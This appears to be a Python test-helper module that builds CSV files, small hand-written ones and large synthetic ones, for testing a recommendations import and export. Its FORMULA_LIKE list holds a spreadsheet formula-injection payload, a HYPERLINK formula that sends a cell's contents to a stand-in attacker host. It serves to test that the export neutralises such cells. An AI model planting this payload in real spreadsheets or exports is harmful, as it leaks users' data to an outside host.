"""CSV files in the columns of the public export, as the import reads them: small ones written
row by row for a test, and large synthetic ones (what the 100,000-row timing in the README
imports)."""

import csv
import io
import random

from meetings.models import Meeting, Organisation, Topic
from recommendations.exports import COLUMNS
from recommendations.models import AffectedGroup

# Texts that begin like a formula as Excel and LibreOffice read a cell (OWASP's list), which
# the CSV export prefixes with a quote, and texts that genuinely begin with a quote (prefixed
# too, so that the prefix is never ambiguous).
FORMULA_LIKE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Details")',
    "+7 (7172) 72-00-00",
    "-1 day",
    "@SUM(A1:A9)",
    "\tindented",
    "\rcarriage return",
    "\nline feed",
    "'quoted'",
    "''twice",
    "'=already quoted",
]


def csv_bytes(records: list[dict], *, columns: list[str] = COLUMNS, bom: bool = True) -> bytes:
    """A CSV file as the export writes it: a byte-order mark, a header, one line per record."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(columns)
    for record in records:
        writer.writerow([record.get(column, "") for column in columns])
    return (("\ufeff" if bom else "") + out.getvalue()).encode("utf-8")


def synthetic_csv(
    count: int,
    *,
    topics: list[str],
    groups: list[str],
    bodies: list[str],
    meetings: list[str],
    seed: int = 2013,
) -> bytes:
    """`count` plausible rows over the given slugs; about two in three have a status."""
    rng = random.Random(seed)
    statuses = ["implemented", "in_progress", "partially_implemented", "not_started"]
    rows = []
    for n in range(count):
        year = 2013 + n % 13
        assessed = rng.random() < 0.66
        rows.append(
            {
                "reference": f"GEN-{year}-{n:06d}",
                "year": str(year),
                "status": rng.choice(statuses) if assessed else "not_assessed",
                "text": f"Generated recommendation {n}: ensure that the measure is adopted.",
                "topics": "; ".join(rng.sample(topics, k=min(len(topics), rng.randint(1, 2)))),
                "affected_groups": "; ".join(rng.sample(groups, k=min(len(groups), 1))),
                "responsible_bodies": "; ".join(
                    rng.sample(bodies, k=min(len(bodies), rng.randint(1, 2)))
                ),
                "meeting": rng.choice(meetings) if rng.random() < 0.5 else "",
                "last_assessment_date": f"{year + 1}-0{rng.randint(1, 9)}-1{rng.randint(0, 9)}"
                if assessed
                else "",
                "language": "en",
            }
        )
    return csv_bytes(rows)


def write_synthetic_csv(path: str, count: int = 100_000) -> None:
    """A file of `count` rows over the slugs in the database (e.g. after `load_demo`)."""
    data = synthetic_csv(
        count,
        topics=list(Topic.objects.values_list("slug", flat=True)),
        groups=list(AffectedGroup.objects.values_list("slug", flat=True)),
        bodies=list(Organisation.objects.values_list("slug", flat=True)),
        meetings=list(Meeting.objects.values_list("slug", flat=True)),
    )
    with open(path, "wb") as file:
        file.write(data)
